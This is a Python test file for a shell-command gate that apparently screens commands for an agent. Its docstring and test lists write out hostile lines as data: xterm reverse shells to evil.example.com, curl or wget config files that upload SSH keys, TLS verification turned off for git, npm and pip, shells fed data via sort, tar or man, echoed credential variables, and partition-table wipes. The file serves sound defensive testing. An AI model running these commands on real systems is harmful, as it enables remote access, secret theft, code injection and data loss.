"""The gate's fifteenth round: a display, a config and a check set apart from the command.

Reverse shells: an X terminal on another host's display was caught when the
display was given to the terminal itself (``xterm -display HOST:1``, ``DISPLAY=HOST:0
xterm``); set through ``env`` or exported earlier on the line (``export
DISPLAY=HOST:0; xterm``) it was approved in a manual profile. A DISPLAY set anywhere
on the line now counts for every X terminal on it.

Settings read from elsewhere: ``CURL_HOME=DIR`` makes curl read ``DIR/.curlrc``,
``WGETRC``/``SYSTEMWGETRC`` name wget's; either file says where the tool writes and
what it sends (``output = AGENTS.md``, ``upload-file = ~/.ssh/id_rsa``), as
``PIP_CONFIG_FILE`` does for pip (``command-variable``).

git settings: ``http.sslVerify false`` (also per URL) lets anyone on the path answer
for the remote, as ``http.proxy`` sends its traffic elsewhere (``persistence`` written
with ``git config``, ``script-exec`` for one command with ``git -c``).

Fed as code: ``sort --compress-program=sh`` pipes its temporary files through ``sh``,
``tar -I bash`` the archive, ``man -P sh`` the formatted page: a shell or interpreter
given no script of its own runs what it is fed, which the line does not show. The
program was judged as a line of its own (``sh``: nothing), and approved.

Printed: ``echo "$AWS_SECRET_ACCESS_KEY"`` shows a credential's value as ``printenv
AWS_SECRET_ACCESS_KEY`` does (``secret-read``); piped on to a login or into a file it
is handed over, not shown, and stays approved.

A package index's TLS checks turned off (``npm config set strict-ssl false``, yarn's
``enableStrictSsl false``/``unsafeHttpWhitelist``, ``pip config set global.trusted-host``):
later installs take code from whoever answers on the path (``persistence``), as git's
``http.sslVerify false``. A mirror named as the index stays ordinary.

Options from a file: ``curl -K FILE`` (``--config``, a prefix down to ``--conf``, a bundle
ending in K) and ``wget --config FILE`` take options the line does not show (``-o
~/.bashrc``, ``--upload-file ~/.ssh/id_rsa``), as ``curl $(cat args)`` does
(``script-exec``); they were never vouched for by an allow rule, but approved in a
manual profile.

Partitions dropped: ``parted /dev/sda mklabel gpt`` (also ``mktable``, ``rm``,
``resizepart``) and a script fed to ``fdisk``/``gdisk`` on a device only asked, as a
disk tool, where ``sgdisk --zap-all /dev/sda`` was hardline; they are now too.

Before the fix every hostile case here was approved, with no danger named, in a
manual profile.
"""

from __future__ import annotations

from tests.shell._carriers import hardline_tests, table_tests

# A device's partition table dropped: as sgdisk --zap-all and wipefs -a already were.
HARDLINE = [
    "parted /dev/sda mklabel gpt",
    "parted -s /dev/sda mklabel msdos",
    "parted --script /dev/nvme0n1 -- mktable gpt",
    "parted -s /dev/sdb rm 1",
    "parted /dev/vda resizepart 2 1GB",
    "printf 'o\\nw\\n' | fdisk /dev/sda",
    "fdisk /dev/sda <<< $'g\\nw'",
    "gdisk /dev/sda < answers.txt",
]
NOT_HARDLINE = [
    "parted /dev/sda print",
    "parted -l",
    "parted -s ./disk.img mklabel gpt",
    "fdisk -l /dev/sda",
    "fdisk /dev/sda",
    "printf 'o\\nw\\n' | fdisk ./disk.img",
]

REMOTE_DISPLAYS = [
    "env DISPLAY=evil.example.com:0 xterm",
    "export DISPLAY=evil.example.com:0; xterm",
    "export DISPLAY=10.0.0.5:1 && xterm -e bash",
    "export 'DISPLAY=10.0.0.5:1'; uxterm",
    "declare -x DISPLAY=evil:0; gnome-terminal",
    "DISPLAY=evil:0; export DISPLAY; xterm",
    "env -u LANG DISPLAY=evil:0 konsole",
    "sudo DISPLAY=evil:0 xterm",
]
LOCAL_DISPLAYS = [
    "env DISPLAY=:0 xterm",
    "export DISPLAY=:1; xterm",
    "export DISPLAY=localhost:10.0 && xterm",
    "export DISPLAY=unix:0; xterm",
    "export DISPLAY=evil.example.com:0",  # no X terminal on the line
    "DISPLAY=evil:0 xclock",  # not a terminal: no shell is handed over
    "export DISPLAY=$DISPLAY; xterm",
]
SETTINGS_ELSEWHERE = [
    "CURL_HOME=. curl https://example.com",
    "CURL_HOME=/tmp/c curl -s https://example.com/x",
    "env CURL_HOME=/tmp curl https://example.com",
    "export CURL_HOME=/tmp; curl https://example.com",
    "WGETRC=./x.rc wget https://example.com",
    "SYSTEMWGETRC=/tmp/w wget https://example.com",
]
SETTINGS_PLAIN = [
    "curl -s https://example.com",
    "CURL_CA_BUNDLE=/etc/ssl/certs/ca.pem curl https://example.com",
    "wget -q https://example.com/x.tar.gz",
]
TLS_OFF = [
    ("git config http.sslVerify false", "persistence"),
    ("git config --global http.sslVerify false", "persistence"),
    ("git config --global http.sslverify 0", "persistence"),
    ("git config http.https://example.com/.sslVerify no", "persistence"),
    ("git config --global https.sslVerify off", "persistence"),
    ("git config set --global http.sslVerify false", "persistence"),
    ("git -c http.sslVerify=false clone https://example.com/r", "script-exec"),
]
TLS_PLAIN = [
    "git config http.sslVerify true",
    "git config --global http.sslVerify yes",
    "git config --get http.sslVerify",
    "git config --unset http.sslVerify",
    "git -c http.sslVerify=true fetch",
    "git config http.postBuffer 524288000",
]
# The program a tool feeds its data to is a shell or interpreter given no script: the
# data (a file, an archive, a manual page the line does not show) runs as code.
FED_AS_CODE = [
    "sort --compress-program=sh f",
    "sort --compress-prog=bash f",
    "sort --compress-p=sh f",
    "sort -S 1 --compress-program=python3.11 big.txt",
    "tar -I sh -xf a.tar",
    "tar --use-compress-program=python3 -xf a.tar",
    "tar --use-compress-prog=/bin/bash -xf a.tar",
    "man -P sh ls",
    "man --pager=bash ls",
]
FED_PLAIN = [
    "sort --compress-program=gzip f",
    "sort --compress-program=zstd f",
    "tar -I 'zstd -T0' -cf a.tar.zst .",
    "tar -I pigz -cf a.tgz .",
    "man -P less ls",
    "man -P 'less -R' ls",
    "rsync -e ssh -a src/ host:dst/",
    "rsync -e 'ssh -p 2222' -a src/ host:dst/",
]
# A credential variable printed into the output, as printenv NAME already was.
ECHOED = [
    "echo $AWS_SECRET_ACCESS_KEY",
    'echo "${GITHUB_TOKEN}"',
    "printf '%s\\n' \"$DB_PASSWORD\"",
    'echo "token: ${API_KEY:-none}"',
    "echo $A_TOKEN || true",
    'echo "x" && echo $DB_PASSWORD',
]
NOT_ECHOED = [
    "echo $HOME",
    'echo "$PATH"',
    "echo $SSH_AUTH_SOCK",
    "printf '%s' \"$USER\"",
    "echo TOKEN is set",
    'echo "${#GITHUB_TOKEN}"',  # its length
    "echo $GREETING-$CREDENTIALS_DIRECTORY",  # where the mounted credentials are
    'echo "$GOOGLE_APPLICATION_CREDENTIALS"',  # a file's path
    "printenv AWS_SHARED_CREDENTIALS_FILE",
    "echo $OAUTH_TOKEN_URL",
    'echo "$GITHUB_TOKEN" | gh auth login --with-token',  # handed on, not shown
    "echo $NPM_TOKEN > .token",
]
# A package index's TLS checks turned off: every later install takes code from whoever
# answers on the path. A mirror named as the index is ordinary (rounds 4 and 10).
TLS_OFF_INDEX = [
    "npm config set strict-ssl false",
    "npm set strict-ssl=false",
    "pnpm config set strict-ssl false",
    "yarn config set enableStrictSsl false",
    "yarn config set unsafeHttpWhitelist evil.example.com",
    "pip config set global.trusted-host evil.example.com",
    "pip3 config --user set install.trusted-host evil.example.com",
    "python -m pip config set global.trusted-host evil.example.com",
]
TLS_ON_INDEX = [
    "npm config set registry https://npm.corp.example",
    "npm config set strict-ssl true",
    "npm config get strict-ssl",
    "pip config set global.index-url https://pypi.corp.example/simple",
    "pip config list",
    "python -m pip install -r requirements.txt",
]
# Options from a file the line does not show, as curl $(cat args) takes them.
OPTION_FILES = [
    "curl -K cfg.txt https://example.com",
    "curl --config cfg.txt https://example.com",
    "curl --config=cfg.txt https://example.com",
    "curl --conf cfg.txt https://example.com",
    "curl -Kcfg.txt https://example.com",
    "curl -sK cfg.txt https://example.com",
    "curl -sSK - https://example.com < cfg",
    "wget --config=x.rc https://example.com",
    "wget --config x.rc https://example.com",
]
OPTIONS_SHOWN = [
    "curl -s https://example.com",
    "curl -sSL -o out.json https://example.com",
    "curl -H 'X-K: 1' https://example.com",
    "curl -d K=1 https://example.com",
    "curl --connect-timeout 5 https://example.com",
    "curl --compressed https://example.com",
    "wget -q https://example.com",
]

HOSTILE = [
    *((line, "script-exec") for line in OPTION_FILES),
    *((line, "persistence") for line in TLS_OFF_INDEX),
    *((line, "secret-read") for line in ECHOED),
    *((line, "script-exec") for line in FED_AS_CODE),
    *((line, "reverse-shell") for line in REMOTE_DISPLAYS),
    *((line, "command-variable") for line in SETTINGS_ELSEWHERE),
    *TLS_OFF,
]
NOTHING = [
    *LOCAL_DISPLAYS,
    *SETTINGS_PLAIN,
    *TLS_PLAIN,
    *FED_PLAIN,
    *NOT_ECHOED,
    *TLS_ON_INDEX,
    *OPTIONS_SHOWN,
]


test_a_partition_table_dropped_is_hardline, test_listing_or_an_image_file_is_not_hardline = (
    hardline_tests(HARDLINE, NOT_HARDLINE)
)
test_each_hostile_line_names_its_danger, test_each_plain_sibling_names_nothing = table_tests(
    HOSTILE, NOTHING
)
